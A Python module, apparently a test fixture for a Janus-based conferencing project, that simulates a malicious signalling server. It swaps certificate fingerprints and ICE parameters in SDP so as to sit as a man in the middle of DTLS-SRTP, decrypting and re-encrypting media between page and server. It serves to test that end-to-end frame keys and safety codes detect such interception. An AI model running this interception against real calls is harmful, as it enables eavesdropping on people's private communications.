"""The flaw fingerprint-swapped: the signalling puts its own certificate into every description, and relays the media.

A man in the middle of DTLS-SRTP: the page takes him for the media server, and the media server takes him for the page.
Each connection ends at him; what he decrypts of the one he encrypts anew for the other. Frames stay as the pages have
sealed them: their keys are not those of DTLS. The safety code is made of those keys, so it stays alike on both sides:
T04 fails, and K05 does not.
"""

import asyncio
import re
from collections.abc import Callable
from contextlib import suppress

import pylibsrtp
from aiortc import RTCCertificate, RTCDtlsTransport, RTCIceGatherer, RTCIceTransport
from aiortc.sdp import SessionDescription, candidate_from_sdp, candidate_to_sdp

from townhall.janus import Handle, Janus, Message

# Attributes of an SDP that say where its writer is reached and by which certificate (RFC 8839, RFC 8122).
_OF_THE_WRITER = re.compile(r"a=(?:ice-ufrag|ice-pwd|ice-options|fingerprint|candidate|end-of-cand)")


class _Dtls(RTCDtlsTransport):
    """Hands what it has decrypted to the one on the other side."""

    beyond: RTCDtlsTransport

    async def _handle_rtp_data(self, data: bytes, arrival_time_ms: int) -> None:
        await self._hand_over(data)

    async def _handle_rtcp_data(self, data: bytes) -> None:
        await self._hand_over(data)

    async def _hand_over(self, data: bytes) -> None:
        with suppress(ConnectionError, pylibsrtp.Error):  # the other side does not stand yet, or any more
            await self.beyond._send_rtp(data)


class _End:
    """His end towards one side, with a certificate of its own; ``heard``: how that side describes itself."""

    def __init__(self) -> None:
        self._gatherer = RTCIceGatherer(iceServers=[])
        self._ice = RTCIceTransport(self._gatherer)
        self.dtls = _Dtls(self._ice, [RTCCertificate.generateCertificate()])
        self.heard = ""

    async def describes(self, sdp: str) -> str:
        """The other side's description, with this end in the place of its writer."""
        await self._gatherer.gather()
        own = self._gatherer.getLocalParameters()
        lines = [f"a=ice-ufrag:{own.usernameFragment}", f"a=ice-pwd:{own.password}"]
        prints = self.dtls.getLocalParameters().fingerprints
        lines += [f"a=fingerprint:{one.algorithm} {one.value}" for one in prints if one.algorithm == "sha-256"]
        lines += [f"a=candidate:{candidate_to_sdp(one)}" for one in self._gatherer.getLocalCandidates()]
        described = []
        for line in sdp.splitlines():
            if not _OF_THE_WRITER.match(line):
                described.append(line)
            if line.startswith("c="):  # the connection line: the attributes of a medium follow
                described += lines
        return "\r\n".join([*described, ""])

    async def add(self, candidate: Message) -> None:
        """A further address of that side."""
        text = str(candidate.get("candidate", ""))
        if text.startswith("candidate:"):
            await self._ice.addRemoteCandidate(candidate_from_sdp(text.removeprefix("candidate:")))

    async def connect(self, *, offers: bool, active: bool) -> None:
        """Connects to whoever wrote what was heard; ``offers`` and ``active`` are this end's parts in ICE and DTLS."""
        media = SessionDescription.parse(self.heard).media[0]
        assert media.ice is not None
        assert media.dtls is not None
        for candidate in media.ice_candidates:
            await self._ice.addRemoteCandidate(candidate)
        self._ice._connection.ice_controlling = offers
        self.dtls._set_role("client" if active else "server")
        await self._ice.start(media.ice)
        await self.dtls.start(media.dtls)

    async def stop(self) -> None:
        await self.dtls.stop()
        await self._ice.stop()


async def _relay(*, answering: _End, asking: _End, active: bool) -> None:
    """Connects to both sides: to the one that answered as who offered, to the one that asked as who answers."""
    await asyncio.gather(answering.connect(offers=True, active=active), asking.connect(offers=False, active=not active))


class SwappedHandle(Handle):
    """One PeerConnection of a page with the media server, and him in between."""

    def __init__(self, janus: Janus, handle_id: int, on_event: Callable[[Message], None]) -> None:
        super().__init__(janus, handle_id, lambda message: None if message["janus"] == "trickle" else on_event(message))
        self._page, self._server = _End(), _End()
        self._page.dtls.beyond, self._server.dtls.beyond = self._server.dtls, self._page.dtls
        self._relays: asyncio.Task[None] | None = None

    async def ask(self, body: Message, jsep: Message | None = None) -> Message:
        """Swaps what the page describes on its way to the media server, and the other way round."""
        if jsep is not None:
            jsep = await self._swapped(jsep, heard_by=self._page, told_by=self._server)
        answer = await super().ask(body, jsep)
        if "jsep" in answer:
            answer = answer | {"jsep": await self._swapped(answer["jsep"], heard_by=self._server, told_by=self._page)}
        return answer

    async def trickle(self, candidate: Message | None) -> None:
        """The page's addresses are his: the media server knows him alone, by the description."""
        await self._page.add(candidate or {})

    async def detach(self) -> None:
        if self._relays is not None:
            self._relays.cancel()
            await asyncio.wait([self._relays])
        await self._page.stop()
        await self._server.stop()
        await super().detach()

    async def _swapped(self, jsep: Message, *, heard_by: _End, told_by: _End) -> Message:
        heard_by.heard = sdp = str(jsep["sdp"])
        described = await told_by.describes(sdp)
        if jsep["type"] == "answer" and self._relays is None:
            # The answer says who begins the handshake; towards the answering side he is the one who offered.
            active = "a=setup:active" not in sdp
            self._relays = asyncio.create_task(_relay(answering=heard_by, asking=told_by, active=active))
        return jsep | {"sdp": described}


class SwappingJanus(Janus):
    """A connection to Janus in which he stands between every page and the media server."""

    handle_type = SwappedHandle
